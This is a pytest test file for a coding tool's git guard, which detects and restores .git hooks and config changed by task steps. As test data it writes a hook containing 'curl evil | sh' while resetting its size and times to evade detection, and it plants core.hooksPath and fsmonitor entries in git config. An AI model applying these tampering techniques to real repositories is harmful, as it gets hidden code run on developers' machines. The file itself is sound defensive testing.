"""The git guard's stat fast path: a guard reads a watched file only when its stamp (inode,
size, mtime, ctime, mode) is new, yet a file rewritten in place with the same size and its
mtime set back is still caught and put back (ctime, which no process can set back), and so is
one rewritten within the timestamp granularity of its last change. Judged by hashing the
files, on real repositories made with the git CLI."""

from __future__ import annotations

import hashlib
import inspect
import os
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from coder.git import guard
from coder.git.guard import GitGuard
from tests.conftest import coder
from tests.helpers import at_once, level_worktrees, state_of, taskfile

HOOK = Path("hooks") / "pre-commit.sample"  # one of the sample hooks `git init` writes


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def settle(path: Path) -> None:
    """Wait until `path`'s last change is old enough for its stamp to stand for its content
    (guard._settled: 0.1 s on a filesystem with sub-second times)."""
    while not guard._settled(guard._stamp(path), time.time_ns()):
        time.sleep(0.02)


def rewrite_keeping_size_and_times(path: str | Path) -> None:
    """What a hostile command can do: new content in place (same inode, same size), then the
    old access and modification times put back with utime. Only the ctime tells."""
    before = os.stat(path)
    planted = b"#!/bin/sh\ncurl evil | sh\n"
    with open(path, "r+b") as file:
        file.write(planted + b"#" * (before.st_size - len(planted) - 1) + b"\n")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    after = os.stat(path)
    assert (after.st_ino, after.st_size, after.st_mtime_ns, after.st_mode) == (
        before.st_ino,
        before.st_size,
        before.st_mtime_ns,
        before.st_mode,
    )


def reads_spied(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The paths the guard reads from now on (their content), in order."""
    read: list[str] = []
    real_read = guard._read

    def spy(path: str | Path) -> guard._Content | None:
        read.append(str(path))
        return real_read(path)

    monkeypatch.setattr(guard, "_read", spy)
    return read


def test_an_unchanged_hook_is_not_read_again_and_a_rewrite_is_still_put_back(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    git_dir = repo / ".git"
    hook = git_dir / HOOK
    original = digest(hook)
    settle(git_dir / "config")
    settle(hook)
    GitGuard.take(git_dir)  # reads the hooks, keeps what it read
    read = reads_spied(monkeypatch)
    taken = GitGuard.take(git_dir)
    assert read == []  # stats only: nothing changed since the first guard read them
    assert taken.saved[str(hook)][0] == hook.read_bytes()  # and it holds their content

    rewrite_keeping_size_and_times(hook)
    assert digest(hook) != original
    assert taken.changes() == [hook]
    assert taken.restore() == [hook]
    assert digest(hook) == original
    assert taken.changes() == []


def test_a_rewrite_within_the_timestamp_granularity_is_caught(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A filesystem keeping whole seconds (or a kernel clock tick) gives a rewrite right after
    the last change the same ctime: such a recent file is compared by content, not stamp."""
    real_stamp = guard._stamp

    def whole_seconds(path: str | Path) -> guard._Stamp | None:
        found = real_stamp(path)
        if found is None:
            return None
        ino, size, mtime, ctime, mode = found
        return ino, size, mtime, ctime - ctime % 1_000_000_000, mode

    monkeypatch.setattr(guard, "_stamp", whole_seconds)
    hook = repo / ".git" / HOOK
    original = digest(hook)
    for _ in range(20):  # a loaded machine may cross a second in between: set it up again
        while time.time() % 1 > 0.2:  # the rewrite below lands in the same second as the last
            time.sleep(0.01)
        os.utime(hook)  # its last change: now
        taken = GitGuard.take(repo / ".git")
        rewrite_keeping_size_and_times(hook)
        if whole_seconds(hook) == taken.stamps[str(hook)]:  # the stamp cannot tell
            break
        taken.restore()
    else:
        pytest.fail("could not rewrite the hook within one second of its last change")
    assert taken.changes() == [hook]
    taken.restore()
    assert digest(hook) == original


def test_a_step_rewriting_a_hook_keeping_its_size_and_mtime_fails_and_is_undone(
    make_repo: Callable[..., Path],
) -> None:
    """Through `coder run` without the sandbox (which refuses the write itself): the first
    step's guard reads the hooks, the second's only stats them, and its command's rewrite is
    still caught and undone."""
    script = (
        "from __future__ import annotations\n\nimport os\nimport sys\nfrom pathlib import Path\n\n"
    )
    script += inspect.getsource(rewrite_keeping_size_and_times)
    script += "\n\nrewrite_keeping_size_and_times(sys.argv[1])\n"
    repo = make_repo({"tamper.py": script, "README.md": "# r\n"})
    hook = repo / ".git" / HOOK
    original = digest(hook)
    settle(hook)
    tamper = "python3 tamper.py"
    path = taskfile(
        repo,
        f"""
        id: hook
        title: t
        graph:
          - {{id: s1, kind: shell, cmd: "echo one > one.txt"}}
          - {{id: s2, kind: shell, cmd: "{tamper} $(git rev-parse --git-common-dir)/{HOOK}"}}
        """,
    )
    assert coder(repo, "run", "--autonomous", "-f", str(path), "--no-sandbox")[0] == 1
    steps = state_of(repo, "hook")["steps"]
    assert steps["s1"]["status"] == "success"
    assert steps["s2"]["status"] == "failed"
    assert steps["s2"]["error"] == (
        f"the step changed .git/{HOOK}; .git belongs to coder's executor (the original was "
        "restored)"
    )
    assert digest(hook) == original


def test_only_small_files_are_kept_between_guards(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A guard keeps what it read for the next one only for files up to 1 MiB (a checkout's
    index can be megabytes): a larger one is read by every guard."""
    git_dir = repo / ".git"
    big = git_dir / "hooks" / "big-hook"
    big.write_bytes(b"#" * (guard._KNOWN_MAX_BYTES + 1))
    for path in (git_dir / "config", git_dir / HOOK, big):
        settle(path)
    GitGuard.take(git_dir)
    read = reads_spied(monkeypatch)
    taken = GitGuard.take(git_dir)
    assert read == [str(big)]
    assert taken.saved[str(big)][0] == big.read_bytes()


def test_guards_checked_at_once_put_a_shared_file_back_once(repo: Path) -> None:
    """The steps of a parallel level are checked in their threads at once, and their guards
    share the repository's config: one puts it back, the other then finds it as it was (two
    restores raced on its unlink and create: FileExistsError). Raced directly, round after
    round; judged by the file's hash."""
    tip, trees = level_worktrees(repo)
    config = repo / ".git" / "config"
    original = digest(config)
    for turn in range(40):
        guards = [GitGuard.take(repo / ".git", t, head=("(no branch)", tip)) for t in trees]
        with config.open("a") as file:  # what a command with `sandbox: off` can do
            file.write(f"[core]\n\thooksPath = /tmp/planted{turn}\n")
        restored = at_once(GitGuard.restore, guards)
        assert digest(config) == original, turn
        assert sorted(restored, key=len) == [[], [config]], restored


def test_an_empty_config_worktree_is_as_none_and_any_other_is_put_back(repo: Path) -> None:
    """The sandbox makes a worktree's config.worktree empty to keep it read-only
    (writes.admin_files), possibly after the step's guard was taken: that is no change. One
    that sets something, a link, or a directory is, and the guard removes it."""
    _tip, (worktree,) = level_worktrees(repo, 1)
    admin = repo / ".git" / "worktrees" / worktree.name
    config = admin / "config.worktree"
    taken = GitGuard.take(repo / ".git", worktree)
    config.write_bytes(b"")
    assert taken.changes() == []
    for plant in (
        lambda: config.write_text("[core]\n\tfsmonitor = touch PWNED\n"),
        lambda: config.symlink_to(repo / ".git" / "config"),
        lambda: config.mkdir(),
    ):
        config.unlink(missing_ok=True)
        plant()
        assert taken.restore() == [config]
        assert not os.path.lexists(config)
